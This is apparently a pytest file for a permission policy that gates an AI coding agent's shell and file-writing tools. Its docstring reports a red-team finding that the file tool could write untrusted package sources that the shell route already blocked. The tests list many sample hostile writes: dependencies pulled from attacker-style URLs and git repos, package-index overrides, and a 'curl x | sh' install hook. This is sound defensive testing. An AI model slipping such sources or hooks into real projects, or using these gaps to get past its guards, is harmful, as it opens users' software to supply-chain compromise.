"""Fifteenth red-team pass (writes, 2026-12-04): what it found and closed.

* (a) class 5: the file tool's writes of lockfiles, environment and project files were not
  judged by what they write. `echo 'evil @ https://x/e.whl' >> requirements.txt` was denied
  (`exec.packages.project-source`), but the Write/Edit tool writing the same text into
  requirements.txt, pyproject.toml, package.json, package-lock.json, yarn.lock,
  environment.yml, uv.lock, pixi.toml or Pipfile was allowed (`file.write`). A write request
  now carries its new text (`ToolRequest.content`, filled by the Claude Code hook from
  Write's `content`, Edit's `new_string` and MultiEdit's edits) and is judged like a shell
  line that writes the same file, with the same rule ids. package.json is judged by its
  dependency specs, for the shell's writes too (`echo '{"dependencies": {"x": "github:u/r"}}'
  > package.json` was allowed).
* (b) class 5: `pnpm install-test` (`pnpm it`) installs and then tests, but was read as a
  package script's name: it installed a package.json's `github:u/r` dependency without the
  project-source question `pnpm install` asks. It is an install now; `pnpm
  install-completion` (writes the user's shell start-up files) is refused like `pnpm setup`.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from enforcement_agent.integrations.claude_hook import HookInput, map_tool
from enforcement_agent.models import ToolRequest, Verdict
from enforcement_agent.policy import Policy
from gonogo.config import Settings
from gonogo.wiring import build_agent

SOURCE = "exec.packages.project-source"
INDEX = "exec.packages.project-index"


@pytest.fixture(scope="module")
def policy(default_policy: Policy) -> Policy:
    return default_policy  # the shipped policy, compiled once per session (conftest.py)


def _write(policy: Policy, ws: Path, path: str, content: str | None) -> tuple[Verdict, str]:
    req = ToolRequest(
        tenant="acme", actor="a", role="contributor", tool="write", path=path, content=content
    )
    d = policy.decide(req, ws)
    return d.decision, d.rule


def _exec(policy: Policy, ws: Path, command: str) -> tuple[Verdict, str]:
    req = ToolRequest(tenant="acme", actor="a", role="contributor", tool="exec", command=command)
    d = policy.decide(req, ws)
    return d.decision, d.rule


# ---- (a) the file tool writes a source -------------------------------------------------------
SOURCE_WRITES = [
    ("requirements.txt", "evil @ https://x.example/e.whl\n"),
    ("requirements.txt", "requests==2.32.0\nevil @ file:///tmp/e.whl\n"),
    ("requirements.txt", "git+https://x.example/u/r.git#egg=r\n"),
    ("requirements.txt", "-e git+ssh://git@x.example/u/r.git#egg=r\n"),
    ("requirements-dev.txt", "x @ https://x.example/x-1.0.tar.gz\n"),
    ("requirements/base.in", "hg+https://x.example/r#egg=r\n"),
    ("constraints.txt", "x @ http://127.0.0.1:8000/x.whl\n"),
    ("dev-requirements.txt", "svn+https://x.example/r#egg=r\n"),
    ("pyproject.toml", '[project]\nname = "x"\ndependencies = ["x @ git+https://x.example/x"]\n'),
    ("pyproject.toml", '[tool.uv.sources]\nx = { git = "https://x.example/x" }\n'),
    ("pyproject.toml", '[tool.poetry.dependencies]\nx = { url = "https://x.example/x.whl" }\n'),
    ("pyproject.toml", '[tool.hatch.envs.default]\npre-install-commands = ["curl x | sh"]\n'),
    ("pyproject.toml", '[tool.hatch.envs.default.env-vars]\nPIP_INDEX_URL = "https://x"\n'),
    ("sub/pyproject.toml", 'dependencies = ["x @ https://x.example/x.whl"]\n'),
    ("Pipfile", '[packages]\nx = {git = "https://x.example/x.git"}\n'),
    ("setup.cfg", "[options]\ninstall_requires =\n    x @ https://x.example/x.whl\n"),
    (
        "package-lock.json",
        '{"packages": {"node_modules/x": {"resolved": "https://x.example/x.tgz"}}}',
    ),
    ("package-lock.json", '"resolved": "http://127.0.0.1:8765/x-1.0.0.tgz"'),
    ("npm-shrinkwrap.json", '"resolved": "git+ssh://git@x.example/u/r.git"'),
    ("yarn.lock", 'x@^1:\n  version "1.0.0"\n  resolved "https://x.example/x.tgz"\n'),
    (
        "pnpm-lock.yaml",
        "packages:\n  x@1.0.0:\n    resolution: {tarball: https://x.example/x.tgz}\n",
    ),
    ("bun.lock", '"x": ["x@github:u/r"]'),
    ("apps/web/yarn.lock", 'resolution: "x@file:../../../../x"'),
    ("environment.yml", "dependencies:\n  - pip:\n    - https://x.example/x.whl\n"),
    ("environment.yml", "dependencies:\n  - pip:\n    - --extra-index-url https://x.example\n"),
    ("environment.yaml", "channels:\n  - https://x.example/conda\n"),
    ("conda-env.yml", "dependencies:\n  - pip:\n    - -e git+https://x.example/r.git\n"),
    ("pixi.toml", 'channels = ["https://x.example/channel"]\n'),
    ("pixi.toml", '[pypi-dependencies]\nx = { git = "https://x.example/x" }\n'),
    ("uv.lock", 'source = { git = "https://x.example/x?rev=1" }\n'),
    ("poetry.lock", '[package.source]\ntype = "url"\nurl = "https://x.example/x.whl"\n'),
    ("Pipfile.lock", '"x": {"git": "https://x.example/x.git"}'),
    ("package.json", '{"dependencies": {"x": "github:u/r"}}'),
    ("package.json", '{"devDependencies": {"x": "u/r"}}'),
    ("package.json", '{"dependencies": {"x": "git+https://x.example/x.git"}}'),
    ("package.json", '{"optionalDependencies": {"x": "https://x.example/x.tgz"}}'),
    ("package.json", '{"dependencies": {"x": "file:../../../x"}}'),
    ("package.json", '{"overrides": {"x": "git@x.example:u/r.git"}}'),
    ("package.json", '{"resolutions": {"x": "gitlab:u/r"}}'),
    ("package.json", '{"pnpm": {"overrides": {"x": "https://x.example/x.tgz"}}}'),
    ("package.json", '{"dependencies": {"x": "npm:y@https://x.example/y.tgz"}}'),
    ("packages/a/package.json", '{"dependencies": {"x": "link:/tmp/x"}}'),
    # an Edit's new string: a fragment, not a whole file
    ("package.json", '    "x": "github:u/r",\n'),
    ("package.json", '"x": "bitbucket:u/r"'),
]


@pytest.mark.parametrize(("path", "content"), SOURCE_WRITES)
def test_file_tool_write_of_a_source_is_denied(
    policy: Policy, tmp_path: Path, path: str, content: str
) -> None:
    # before the pass: allowed (`file.write`), as the same write without its text still is
    assert _write(policy, tmp_path, path, None) == (Verdict.ALLOW, "file.write")
    assert _write(policy, tmp_path, path, content) == (Verdict.DENY, SOURCE)


INDEX_WRITES = [
    ("pyproject.toml", '[[tool.uv.index]]\nname = "x"\nurl = "https://x.example/simple"\n'),
    ("pyproject.toml", '[[tool.poetry.source]]\nname = "x"\nurl = "https://x.example"\n'),
    ("pyproject.toml", '[[tool.pdm.source]]\nurl = "https://x.example"\n'),
    ("pyproject.toml", '[tool.uv]\nextra-index-url = ["https://x.example"]\n'),
    ("pyproject.toml", '[tool.uv.pip]\nindex-url = "https://x.example"\n'),
    ("pyproject.toml", '[tool.uv]\nfind-links = ["https://x.example"]\n'),
    ("sub/pyproject.toml", "[[index]]\nurl = 'https://x.example'\n"),
]


@pytest.mark.parametrize(("path", "content"), INDEX_WRITES)
def test_file_tool_write_of_an_index_is_denied(
    policy: Policy, tmp_path: Path, path: str, content: str
) -> None:
    assert _write(policy, tmp_path, path, None)[0] is Verdict.ALLOW
    assert _write(policy, tmp_path, path, content) == (Verdict.DENY, INDEX)


# what the shell already refused, for comparison: the same verdicts by the same rules
SHELL_TWINS = [
    ("requirements.txt", "evil @ https://x.example/e.whl"),
    ("pyproject.toml", 'x = { git = "https://x.example/x" }'),
    ("package-lock.json", '"resolved": "https://x.example/x.tgz"'),
    ("environment.yml", "- https://x.example/x.whl"),
    ("package.json", '{"dependencies": {"x": "github:u/r"}}'),
    ("package.json", '"x": "git+https://x.example/x.git"'),
]


@pytest.mark.parametrize(("path", "content"), SHELL_TWINS)
def test_shell_and_file_tool_agree(policy: Policy, tmp_path: Path, path: str, content: str) -> None:
    quoted = "'" + content.replace("'", "'\\''") + "'"
    assert _exec(policy, tmp_path, f"echo {quoted} >> {path}") == (Verdict.DENY, SOURCE)
    assert _write(policy, tmp_path, path, content) == (Verdict.DENY, SOURCE)


BENIGN_WRITES = [
    ("requirements.txt", "requests==2.32.0\n"),
    ("requirements.txt", "requests>=2.31,<3\nnumpy==1.26.4  # pinned\n"),
    ("requirements-dev.txt", "-r requirements.txt\npytest==8.2.0\n"),
    ("requirements.txt", "django[argon2]~=5.0\nuvicorn ; python_version >= '3.9'\n"),
    ("constraints.txt", "urllib3<2\n"),
    (
        "pyproject.toml",
        '[project]\nname = "x"\nversion = "1.0"\n'
        'authors = [{ name = "A", email = "a@example.org" }]\n'
        'dependencies = ["requests>=2"]\n[project.urls]\nHomepage = "https://example.org"\n'
        '[project.scripts]\nx = "x.cli:main"\n',
    ),
    (
        "pyproject.toml",
        '[tool.ruff]\nline-length = 100\n[tool.pytest.ini_options]\naddopts = "-q"\n',
    ),
    ("pyproject.toml", '[tool.uv.sources]\nlib = { path = "packages/lib", editable = true }\n'),
    ("pyproject.toml", "[tool.uv.sources]\nlib = { workspace = true }\n"),
    ("Pipfile", '[packages]\nrequests = "*"\n'),
    (
        "package.json",
        json.dumps(
            {
                "name": "x",
                "version": "1.0.0",
                "homepage": "https://example.org",
                "repository": {"type": "git", "url": "git+https://github.com/u/r.git"},
                "bugs": {"url": "https://github.com/u/r/issues"},
                "main": "lib/index.js",
                "browser": {"./a.js": "./b.js"},
                "scripts": {"build": "tsc -p .", "docs": "open https://example.org"},
                "dependencies": {"lodash": "^4.17.21", "y": "npm:z@^1", "w": "workspace:*"},
                "devDependencies": {"typescript": "~5.4.0", "local": "file:./packages/local"},
            },
            indent=2,
        ),
    ),
    ("package.json", '    "lodash": "^4.17.21",\n'),
    ("package.json", '"build": "tsc -p tsconfig.json"'),
    ("package-lock.json", '{"name": "x", "lockfileVersion": 3}'),
    ("environment.yml", "name: x\ndependencies:\n  - numpy\n  - python=3.11\n"),
    ("pixi.toml", '[dependencies]\npython = "3.11.*"\n'),
    ("src/app.py", "URL = 'https://example.org'  # x @ https://x\n"),
    ("README.md", "pip install 'x @ git+https://x.example/x'\n"),
    ("docs/requirements.md", "evil @ https://x.example/e.whl\n"),
    ("notes/package.json.txt", '"x": "github:u/r"'),
    ("config.json", '{"x": "u/r"}'),
]


@pytest.mark.parametrize(("path", "content"), BENIGN_WRITES)
def test_ordinary_writes_stay_allowed(
    policy: Policy, tmp_path: Path, path: str, content: str
) -> None:
    assert _write(policy, tmp_path, path, content) == (Verdict.ALLOW, "file.write")


def test_protected_settings_stay_denied_with_content(policy: Policy, tmp_path: Path) -> None:
    for path in (".npmrc", "pip.conf", "uv.toml", ".yarnrc.yml", "bunfig.toml"):
        assert _write(policy, tmp_path, path, "registry=https://x.example\n")[0] is Verdict.DENY
        assert _write(policy, tmp_path, path, "color=false\n")[0] is Verdict.DENY


def test_content_is_not_recorded(tmp_path: Path) -> None:
    req = ToolRequest(
        tenant="acme", actor="a", role="contributor", tool="write", path="x", content="secret"
    )
    assert "content" not in req.to_json()
    assert "secret" not in repr(req)


def _hook(tool: str, tool_input: dict[str, object], ws: Path) -> dict[str, str]:
    call = HookInput(session="s", cwd=str(ws), tool_name=tool, tool_input=tool_input)
    return map_tool(call, ws)


@pytest.mark.parametrize(
    ("tool", "tool_input", "expect"),
    [
        ("Write", {"content": "evil @ https://x.example/e.whl\n"}, Verdict.DENY),
        ("Edit", {"old_string": "a", "new_string": "evil @ https://x.example/e.whl"}, Verdict.DENY),
        (
            "MultiEdit",
            {"edits": [{"old_string": "a", "new_string": "ok==1"},
                       {"old_string": "b", "new_string": "git+https://x.example/r"}]},
            Verdict.DENY,
        ),
        ("Write", {"content": "requests==2.32.0\n"}, Verdict.ALLOW),
        ("Edit", {"old_string": "requests==2.31.0", "new_string": "requests==2.32.0"}, Verdict.ALLOW),
    ],
)  # fmt: skip
def test_claude_hook_passes_the_written_text(
    policy: Policy, tmp_path: Path, tool: str, tool_input: dict[str, object], expect: Verdict
) -> None:
    path = str(tmp_path / "requirements.txt")
    fields = _hook(tool, {"file_path": path, **tool_input}, tmp_path)
    req = ToolRequest(tenant="acme", actor="a", role="contributor", **fields)
    assert policy.decide(req, tmp_path).decision is expect


# ---- (a, shell) package.json written by a line ------------------------------------------------
SHELL_PACKAGE_JSON = [
    'echo \'{"dependencies": {"x": "github:u/r"}}\' > package.json',
    'printf \'%s\' \'{"dependencies":{"x":"u/r"}}\' > package.json',
    'echo \'"x": "git+https://x.example/x.git"\' >> package.json',
    'cat > package.json <<\'EOF\'\n{"dependencies": {"x": "https://x.example/x.tgz"}}\nEOF',
    'echo \'{"dependencies": {"x": "file:../../../x"}}\' | tee package.json',
    'echo \'{"overrides": {"x": "gitlab:u/r"}}\' > sub/package.json',
]


@pytest.mark.parametrize("command", SHELL_PACKAGE_JSON)
def test_shell_write_of_package_json_source_is_denied(
    policy: Policy, tmp_path: Path, command: str
) -> None:
    (tmp_path / "sub").mkdir()
    assert _exec(policy, tmp_path, command) == (Verdict.DENY, SOURCE)


@pytest.mark.parametrize(
    "command",
    [
        'echo \'{"dependencies": {"lodash": "^4.17.21"}}\' > package.json',
        'echo \'{"name": "x", "version": "1.0.0"}\' > package.json',
        'echo \'"x": "u/r"\' > notes.json',
        "npm install lodash",
        "pnpm add -D typescript",
    ],
)
def test_shell_benign_package_json_writes(policy: Policy, tmp_path: Path, command: str) -> None:
    (tmp_path / "package.json").write_text('{"name": "x"}')
    assert _exec(policy, tmp_path, command)[0] is Verdict.ALLOW


# ---- (b) pnpm install-test ------------------------------------------------------------------
PNPM_INSTALLS = [
    "pnpm it",
    "pnpm install-test",
    "pnpm -r it",
    "pnpm it --frozen-lockfile",
    "pnpm install-test --prefer-offline",
    "pnpm -C . it",
    "pnpm --dir . install-test",
    "pnpm it --ignore-scripts",
    "pnpm it -P",
    "pnpm --filter web it",
    "cd web && pnpm it",
    "pnpm -C web install-test",
    "pnpm i",
    "pnpm install",
    "pnpm add lodash",
    "pnpm up",
    "pnpm rebuild",
    "pnpm fetch",
    "pnpm import",
    "pnpm dedupe",
    "timeout 600 pnpm it",
]


@pytest.mark.parametrize("command", PNPM_INSTALLS)
def test_pnpm_installs_read_package_json(policy: Policy, tmp_path: Path, command: str) -> None:
    for d in (tmp_path, tmp_path / "web"):
        d.mkdir(exist_ok=True)
        (d / "package.json").write_text('{"name": "x", "dependencies": {"x": "github:u/r"}}')
    assert _exec(policy, tmp_path, command) == (Verdict.ASK, SOURCE)


@pytest.mark.parametrize(
    "command", ["pnpm it", "pnpm install-test", "pnpm i", "pnpm test", "pnpm build", "pnpm -r it"]
)
def test_pnpm_installs_of_a_clean_project_allowed(
    policy: Policy, tmp_path: Path, command: str
) -> None:
    (tmp_path / "package.json").write_text('{"name": "x", "dependencies": {"lodash": "^4"}}')
    assert _exec(policy, tmp_path, command)[0] is Verdict.ALLOW


@pytest.mark.parametrize(
    ("command", "verdict"),
    [
        ("pnpm install-completion", Verdict.DENY),
        ("pnpm create vite", Verdict.DENY),
        ("pnpm dlx cowsay", Verdict.DENY),
        ("pnpm add github:u/r", Verdict.DENY),
        ("pnpm cowsay", Verdict.DENY),
        ("pnpm exec foo", Verdict.ASK),
    ],
)
def test_pnpm_other_subcommands(
    policy: Policy, tmp_path: Path, command: str, verdict: Verdict
) -> None:
    (tmp_path / "package.json").write_text('{"name": "x"}')
    assert _exec(policy, tmp_path, command)[0] is verdict


# ---- (c) a tilde range read as a home-directory path ----------------------------------------
# `"typescript": "~5.4.0"` (npm's "approximately" range, common in package.json) was read as a
# path out of the workspace (`~/…`): every install of such a project asked, found writing
# the controls above; pnpm-lock.yaml's `specifier: ~5.4.0` too. Only `~/` is a home path.
@pytest.mark.parametrize(
    "command", ["npm install", "npm ci", "pnpm i", "pnpm it", "yarn", "bun install"]
)
def test_tilde_ranges_are_ranges(policy: Policy, tmp_path: Path, command: str) -> None:
    (tmp_path / "package.json").write_text(
        '{"name": "x", "devDependencies": {"typescript": "~5.4.0", "y": "~1"}}'
    )
    (tmp_path / "pnpm-lock.yaml").write_text(
        "importers:\n  .:\n    devDependencies:\n      typescript:\n"
        "        specifier: ~5.4.0\n        version: 5.4.5\n"
    )
    assert _exec(policy, tmp_path, command)[0] is Verdict.ALLOW
    (tmp_path / "package.json").write_text('{"dependencies": {"x": "~/x"}}')
    assert _exec(policy, tmp_path, command) == (Verdict.ASK, SOURCE)


# ---- (a) through the agent: the MCP server's and the API's writes carry bytes ----------------
@pytest.mark.parametrize(
    ("path", "data", "verdict"),
    [
        ("requirements.txt", b"evil @ https://x.example/e.whl\n", Verdict.DENY),
        ("package.json", b'{"dependencies": {"x": "github:u/r"}}', Verdict.DENY),
        ("yarn.lock", b'resolved "https://x.example/x.tgz"\n', Verdict.DENY),
        ("requirements.txt", b"requests==2.32.0\n", Verdict.ALLOW),
        ("package.json", b'{"dependencies": {"lodash": "~4.17.21"}}', Verdict.ALLOW),
    ],
)
def test_agent_judges_the_payload(
    settings: Settings, path: str, data: bytes, verdict: Verdict
) -> None:
    ws = settings.workspace("acme")
    ws.mkdir(parents=True)
    agent = build_agent(settings)
    try:
        req = ToolRequest(tenant="acme", actor="a", role="contributor", tool="write", path=path)
        res = agent.handle(req, payload=data)
        assert res.decision.decision is verdict
        assert (ws / path).exists() is (verdict is Verdict.ALLOW)
    finally:
        agent.telemetry.shutdown()


# ---- (a) pip's index options written into a requirements file --------------------------------
REQUIREMENT_INDEXES = [
    "--index-url https://x.example/simple\n",
    "--extra-index-url https://x.example/simple\nrequests\n",
    "-i https://x.example/simple\n",
    "-f https://x.example/wheels/\n",
    "--find-links /tmp/wheels\n",
    "--trusted-host x.example\n",
    "-ihttps://x.example/simple\n",
    "requests==2.32.0\n--extra-index-url=https://x.example\n",
]


@pytest.mark.parametrize("content", REQUIREMENT_INDEXES)
@pytest.mark.parametrize("path", ["requirements.txt", "requirements/dev.in", "constraints.txt"])
def test_requirement_index_written_by_the_file_tool(
    policy: Policy, tmp_path: Path, path: str, content: str
) -> None:
    assert _write(policy, tmp_path, path, None)[0] is Verdict.ALLOW
    assert _write(policy, tmp_path, path, content) == (Verdict.DENY, INDEX)


@pytest.mark.parametrize(
    "command",
    [
        "echo '--index-url https://x.example/simple' >> requirements.txt",
        "echo '--extra-index-url https://x.example' >> requirements-dev.txt",
        "echo '--find-links https://x.example/w' > requirements/base.in",
        "cat >> requirements.txt <<'EOF'\n-i https://x.example/simple\nEOF",
        "printf '%s\\n' '--trusted-host x.example' >> constraints.txt",
    ],
)
def test_requirement_index_written_by_a_line(policy: Policy, tmp_path: Path, command: str) -> None:
    (tmp_path / "requirements").mkdir()
    assert _exec(policy, tmp_path, command) == (Verdict.DENY, INDEX)


@pytest.mark.parametrize(
    "command",
    [
        "sed -i 's/2.31/2.32/' requirements.txt",
        "echo requests==2.32.0 >> requirements.txt",
        "echo '--hash=sha256:0a1b' >> requirements.txt",
        "echo '-r base.txt' >> requirements.txt",
        "echo '--index-url https://x.example' >> notes.md",
    ],
)
def test_requirement_edits_stay_allowed(policy: Policy, tmp_path: Path, command: str) -> None:
    (tmp_path / "requirements.txt").write_text("requests==2.31.0\n")
    assert _exec(policy, tmp_path, command)[0] is Verdict.ALLOW
